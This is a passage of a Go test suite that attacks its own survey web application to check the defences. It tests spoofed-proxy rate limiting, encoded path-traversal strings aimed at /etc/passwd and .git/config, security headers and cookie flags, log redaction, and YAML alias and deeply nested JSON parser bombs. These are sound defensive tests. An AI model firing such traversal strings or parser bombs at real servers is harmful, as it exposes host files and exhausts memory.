		if s := guess(e, "10.9.9.9"); s != 429 {
			t.Errorf("21st guess with a fresh X-Forwarded-For: %d, want 429", s)
		}
	})
	t.Run("behind a proxy: the appended entry counts", func(t *testing.T) {
		e := newEnv(t)
		e.fullServer(httpapi.Options{TrustProxy: true}, "", nil)
		e.importStudy("participation-study.yaml", readFile(t, "testdata/participation-study.yaml"))
		for i := range 20 {
			// The client sends a made-up X-Forwarded-For; the proxy appends the real address.
			if s := guess(e, fmt.Sprintf("10.0.%d.1, 203.0.113.7", i)); s != 404 {
				t.Fatalf("guess %d: %d", i+1, s)
			}
		}
		if s := guess(e, "10.9.9.9, 203.0.113.7"); s != 429 {
			t.Errorf("21st guess from 203.0.113.7 with a fresh spoofed prefix: %d, want 429", s)
		}
		if s := guess(e, "203.0.113.8"); s != 404 {
			t.Errorf("control: another client is limited too: %d", s)
		}
		for i := range 20 {
			if s := login(e, i, fmt.Sprintf("192.0.2.%d, 203.0.113.9", i)); s != 401 {
				t.Fatalf("login %d: %d", i+1, s)
			}
		}
		if s := login(e, 99, "192.0.2.99, 203.0.113.9"); s != 429 {
			t.Errorf("21st login from 203.0.113.9 with a fresh spoofed prefix: %d, want 429", s)
		}
		// IPv6: one /64 is one client.
		for i := range 20 {
			if s := guess(e, fmt.Sprintf("2001:db8:1:2::%x", i+1)); s != 404 {
				t.Fatalf("IPv6 guess %d: %d", i+1, s)
			}
		}
		if s := guess(e, "2001:db8:1:2:ffff:ffff:ffff:1"); s != 429 {
			t.Errorf("21st guess from the same /64: %d, want 429", s)
		}
		if s := guess(e, "2001:db8:1:3::1"); s != 404 {
			t.Errorf("control: another /64: %d", s)
		}
	})
}

// ---------------------------------------------------------------- static files

// TestAttackStaticPathTraversal: encoded and raw traversal attempts on the
// static files never leave the embedded UI: 404, or the SPA's own
// index.html, never a file of the host.
func TestAttackStaticPathTraversal(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.fullServer(httpapi.Options{}, "", nil)
	for _, p := range []string{
		"/assets/..%2f..%2f..%2fetc/passwd",
		"/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
		"/assets/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
		"/assets/..%5c..%5c..%5cetc%5cpasswd",
		"/..%5c..%5cetc%5cpasswd",
		"/assets/%252e%252e%252f%252e%252e%252fetc%252fpasswd",
		"/%252e%252e/%252e%252e/etc/passwd",
		"/assets/../index.html",
		"/assets/../../../../etc/passwd",
		"//etc/passwd",
		"/assets//etc/passwd",
		"/assets/%00../../etc/passwd",
		"/assets/..;/..;/etc/passwd",
		"/.git/config",
		"/assets/.%2e/.%2e/etc/passwd",
		"/p/..%2f..%2fetc%2fpasswd",
		"/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
		"/assets/app-123.js/../../../etc/passwd",
		"/embed.go",
		"/../go.mod",
	} {
		s, h, b := e.atkReq("GET", p, "", "", nil, nil)
		if s != 404 {
			t.Errorf("GET %s: %d %q %.100s, want 404", p, s, h.Get("Content-Type"), b)
		}
		if bytes.Contains(b, []byte("root:")) || bytes.Contains(b, []byte("module ")) || bytes.Contains(b, []byte("[core]")) {
			t.Errorf("GET %s leaks a host file: %.200s", p, b)
		}
	}
	// The controls.
	if s, _, b := e.atkReq("GET", "/assets/app-123.js", "", "", nil, nil); s != 200 || !bytes.Contains(b, []byte("console.log")) {
		t.Errorf("control: asset %d", s)
	}
	if s, _, b := e.atkReq("GET", "/p/some-token", "", "", nil, nil); s != 200 || !bytes.Contains(b, []byte("<title>Expertenrunde")) {
		t.Errorf("control: client route %d", s)
	}
}

// ---------------------------------------------------------------- headers and cookies

func checkSecurityHeaders(t *testing.T, name string, h http.Header) {
	t.Helper()
	csp := h.Get("Content-Security-Policy")
	directives := map[string]string{}
	for _, d := range strings.Split(csp, ";") {
		d = strings.TrimSpace(d)
		k, v, _ := strings.Cut(d, " ")
		directives[k] = v
	}
	script, ok := directives["script-src"]
	if !ok {
		script = directives["default-src"]
	}
	if script == "" || strings.Contains(script, "'unsafe-inline'") || strings.Contains(script, "'unsafe-eval'") || strings.Contains(script, "*") || strings.Contains(script, "data:") {
		t.Errorf("%s: script-src %q (CSP %q)", name, script, csp)
	}
	if directives["frame-ancestors"] != "'none'" || directives["object-src"] != "'none'" || directives["base-uri"] == "" {
		t.Errorf("%s: CSP %q lacks frame-ancestors/object-src 'none' or base-uri", name, csp)
	}
	for k, v := range map[string]string{"X-Content-Type-Options": "nosniff", "X-Frame-Options": "DENY", "Referrer-Policy": "no-referrer"} {
		if h.Get(k) != v {
			t.Errorf("%s: %s = %q, want %q", name, k, h.Get(k), v)
		}
	}
	if h.Get("Access-Control-Allow-Origin") != "" {
		t.Errorf("%s: CORS is open: %q", name, h.Get("Access-Control-Allow-Origin"))
	}
}

// TestAttackSecurityHeadersEverywhere: HTML, client routes, assets, API
// answers, errors, downloads and the 413 of an oversized body all carry
// the headers; HSTS is sent when served over HTTPS.
func TestAttackSecurityHeadersEverywhere(t *testing.T) {
	t.Parallel()
	e := newAttackEnv(t)
	admin := e.login("admin")
	for _, c := range []struct{ name, method, path, bearer string }{
		{"index", "GET", "/", ""},
		{"client route", "GET", "/p/some-token", ""},
		{"asset", "GET", "/assets/app-123.js", ""},
		{"missing asset", "GET", "/assets/nope.js", ""},
		{"health", "GET", "/healthz", ""},
		{"API 200", "GET", "/api/v1/surveys", admin},
		{"API 401", "GET", "/api/v1/me", ""},
		{"API 404", "GET", "/api/v1/nope", ""},
		{"API 422", "POST", "/api/v1/auth/login", ""},
		{"download", "GET", "/api/v1/surveys/" + ptStudy + "/export.xlsx", admin},
		{"openapi", "GET", "/api/v1/openapi.json", ""},
	} {
		_, h, _ := e.atkReq(c.method, c.path, c.bearer, "application/json", []byte("{}"), nil)
		checkSecurityHeaders(t, c.name, h)
		if h.Get("Strict-Transport-Security") != "" {
			t.Errorf("%s: HSTS over plain HTTP", c.name)
		}
	}
	// The 413 of the server's own body check, through a listener.
	if err := e.srv.Listen("127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	conn, err := net.Dial("tcp", e.srv.Addr())
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprintf(conn, "POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n", 300<<10)
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	conn.Close()
	_ = e.srv.Shutdown()
	if resp.StatusCode != 413 {
		t.Fatalf("413: %d", resp.StatusCode)
	}
	checkSecurityHeaders(t, "413", resp.Header)

	// Over HTTPS: HSTS on every answer.
	e.fullServer(httpapi.Options{Secure: true}, "https://befragung.example", nil)
	for _, p := range []string{"/", "/api/v1/me", "/assets/app-123.js"} {
		_, h, _ := e.atkReq("GET", p, "", "", nil, nil)
		if hsts := h.Get("Strict-Transport-Security"); !strings.Contains(hsts, "max-age=") {
			t.Errorf("%s over HTTPS: HSTS %q", p, hsts)
		}
	}
}

// TestAttackSecureCookies: with an https base URL (config.Secure) every
// session and CSRF cookie, staff and expert, set and cleared, is Secure,
// SameSite=Strict, and the session cookies are HttpOnly; the expert's
// session cookie is sent to the participation API only.
func TestAttackSecureCookies(t *testing.T) {
	t.Parallel()
	if !(&config.Config{BaseURL: "https://befragung.example"}).Secure() || (&config.Config{BaseURL: "http://127.0.0.1:8080"}).Secure() {
		t.Fatal("config.Secure does not follow the base URL's scheme")
	}
	e := newEnv(t)
	e.fullServer(httpapi.Options{Secure: true}, "https://befragung.example", nil)
	e.importStudy("participation-study.yaml", readFile(t, "testdata/participation-study.yaml"))
	e.openRound(ptStudy, "")
	x := e.addExpert(ptStudy, "wiss")

	_, h, _ := e.atkReq("POST", "/api/v1/auth/login", "", "application/json", []byte(`{"email":"admin@example.org","password":"`+testPassword+`"}`), nil)
	staff := cookieMap(h)
	_, h, _ = e.atkReq("POST", "/api/v1/participation/session", "", "application/json", []byte(`{"token":"`+x.token+`"}`), nil)
	exp := cookieMap(h)
	check := func(c *http.Cookie, name string, httpOnly bool, path string) {
		t.Helper()
		if c == nil {
			t.Errorf("no cookie %s", name)
			return
		}
		if !c.Secure || c.SameSite != http.SameSiteStrictMode || c.HttpOnly != httpOnly || c.Path != path {
			t.Errorf("cookie %s: Secure=%v SameSite=%v HttpOnly=%v Path=%q; want Secure, Strict, HttpOnly=%v, Path=%q", name, c.Secure, c.SameSite, c.HttpOnly, c.Path, httpOnly, path)
		}
	}
	check(staff["er_session"], "er_session", true, "/")
	check(staff["er_csrf"], "er_csrf", false, "/")
	check(exp["er_expert"], "er_expert", true, "/api/v1/participation")
	check(exp["er_expert_csrf"], "er_expert_csrf", false, "/")
	// Logout clears them with the same flags.
	_, h, _ = e.atkReq("POST", "/api/v1/auth/logout", "", "", nil, map[string]string{"X-CSRF-Token": staff["er_csrf"].Value}, staff["er_session"], staff["er_csrf"])
	cleared := cookieMap(h)
	check(cleared["er_session"], "er_session (cleared)", true, "/")
	check(cleared["er_csrf"], "er_csrf (cleared)", false, "/")
	// Renewal past half the lifetime keeps the flags.
	e.clock.add(20 * time.Minute)
	_, h, _ = e.atkReq("GET", "/api/v1/participation", "", "", nil, nil, exp["er_expert"])
	check(cookieMap(h)["er_expert"], "er_expert (renewed)", true, "/api/v1/participation")

	// Over plain HTTP no cookie claims Secure (the control).
	e.fullServer(httpapi.Options{}, "", nil)
	_, h, _ = e.atkReq("POST", "/api/v1/auth/login", "", "application/json", []byte(`{"email":"admin@example.org","password":"`+testPassword+`"}`), nil)
	if c := cookieMap(h)["er_session"]; c == nil || c.Secure {
		t.Errorf("control: er_session over HTTP: %+v", c)
	}
}

// ---------------------------------------------------------------- logs

type lockedBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *lockedBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *lockedBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

// TestAttackLogsHoldNoSecrets: at debug level, the log of a session with
// link exchanges, personal-link pages, tokens in query strings, logins and
// failed logins holds no link token, JWT, password or e-mail address.
func TestAttackLogsHoldNoSecrets(t *testing.T) {
	t.Parallel()
	var logBuf lockedBuffer
	logger := slog.New(slog.NewJSONHandler(&logBuf, &slog.HandlerOptions{Level: slog.LevelDebug}))
	e := newEnv(t)
	e.fullServer(httpapi.Options{}, "", logger)
	e.importStudy("participation-study.yaml", readFile(t, "testdata/participation-study.yaml"))
	e.openRound(ptStudy, "")
	x := e.addExpert(ptStudy, "wiss")
	jwtTok := e.session(x)
	staffTok := e.login("admin")
	secretPW := "Sup3r-Secret-Passw0rd"
	for _, r := range []struct{ method, path, bearer, body string }{
		{"GET", "/p/" + x.token, "", ""},
		{"GET", "/p/" + x.token + "?lang=en", "", ""},
		{"GET", "/api/v1/participation?token=" + x.token, jwtTok, ""},
		{"GET", "/api/v1/" + x.token, "", ""},
		{"POST", "/api/v1/participation/session", "", `{"token":"` + x.token + `"}`},
		{"POST", "/api/v1/participation/session", "", `{"token":"` + x.token + `x"}`},
		{"POST", "/api/v1/auth/login", "", `{"email":"victim-login@example.org","password":"` + secretPW + `"}`},
		{"POST", "/api/v1/auth/login", "", `{"email":"admin@example.org","password":"` + secretPW + `"}`},
		{"POST", "/api/v1/auth/login", "", `{"email":"admin@example.org","password":"` + testPassword + `"}`},
		{"POST", "/api/v1/users", staffTok, `{"email":"new-user@example.org","role":"researcher","password":"` + secretPW + `"}`},
		{"POST", "/api/v1/surveys/" + ptStudy + "/experts", staffTok, `{"name":"Log Person","email":"log-person@example.org","group":"wiss"}`},
		{"GET", "/api/v1/me?access_token=" + staffTok, "", ""},
	} {
		var body []byte
		if r.body != "" {
			body = []byte(r.body)
		}
		e.atkReq(r.method, r.path, r.bearer, "application/json", body, nil)
	}
	log := logBuf.String()
	if !strings.Contains(log, `"msg":"request"`) || !strings.Contains(log, "/api/v1/participation/session") || !strings.Contains(log, `"msg":"login failed"`) {
		t.Fatalf("control: the log lacks the request lines: %.500s", log)
	}
	for name, sec := range map[string]string{
		"link token": x.token, "expert JWT": jwtTok, "staff JWT": staffTok, "password": secretPW, "test password": testPassword,
		"e-mail": "@example.org", "name": "Log Person", "Bearer": "Bearer",
	} {
		if strings.Contains(log, sec) {
			t.Errorf("the log holds the %s", name)
		}
	}
	if strings.Contains(log, "/p/") {
		t.Errorf("the log holds a personal-link path")
	}
}

// ---------------------------------------------------------------- parser bombs

// TestAttackStudyUploadBombs: YAML alias bombs (one 1 MiB string with 300
// or 3,000 aliases, which cost 1.3 GB and 20 s before the limit on the
// expanded size, and the nested "billion laughs"), deeply nested YAML and
// JSON, uploaded as a study, are refused with 422 naming the problem
// without expanding into memory (the deep YAML cost 370 MB before the
// nesting limit).
// Not parallel: it measures the process's allocations, so it runs before
// the package's parallel tests start.
func TestAttackStudyUploadBombs(t *testing.T) {
	e := newEnv(t)
	e.fullServer(httpapi.Options{BodyLimit: 4 << 20}, "", nil) // the default limit
	admin := e.login("admin")
	for _, c := range []struct{ name, ctype, body, want string }{
		{"bomb.yaml", "application/yaml", string(surveytest.Laughs(9)), `"line":7`},
		{"alias300.yaml", "application/yaml", string(surveytest.AliasBomb(1<<20, 300)), `"field":"y2","line":5,"column":5,"message":"alias *x makes the file too large: more than 4 MiB`},
		{"alias3000.yaml", "application/yaml", string(surveytest.AliasBomb(1<<20, 3000)), `"field":"y2","line":5,"column":5,"message":"alias *x makes the file too large: more than 4 MiB`},
		{"deep.yaml", "application/yaml", strings.Repeat("- ", 5000) + "x", "levels deep"},
		{"deep.json", "application/json", strings.Repeat("[", 100000) + strings.Repeat("]", 100000), ""},
		{"deep-object.json", "application/json", strings.Repeat(`{"a":`, 30000) + "1" + strings.Repeat("}", 30000), ""},
	} {
		var before, after runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&before)
		s, _, b := e.atkReq("POST", "/api/v1/surveys?filename="+c.name, admin, c.ctype, []byte(c.body), nil)
		runtime.ReadMemStats(&after)
		if s != 422 {
			t.Errorf("%s: %d %.200s, want 422", c.name, s, b)
		}
		if !bytes.Contains(b, []byte(c.want)) {
			t.Errorf("%s: %.300s, want %s", c.name, b, c.want)
		}
		alloc := after.TotalAlloc - before.TotalAlloc
		t.Logf("%s: %d, %d MiB allocated", c.name, s, alloc>>20)
		if alloc > 48<<20 {
			t.Errorf("%s allocated %d MiB, want at most 48", c.name, alloc>>20)
		}
	}
}
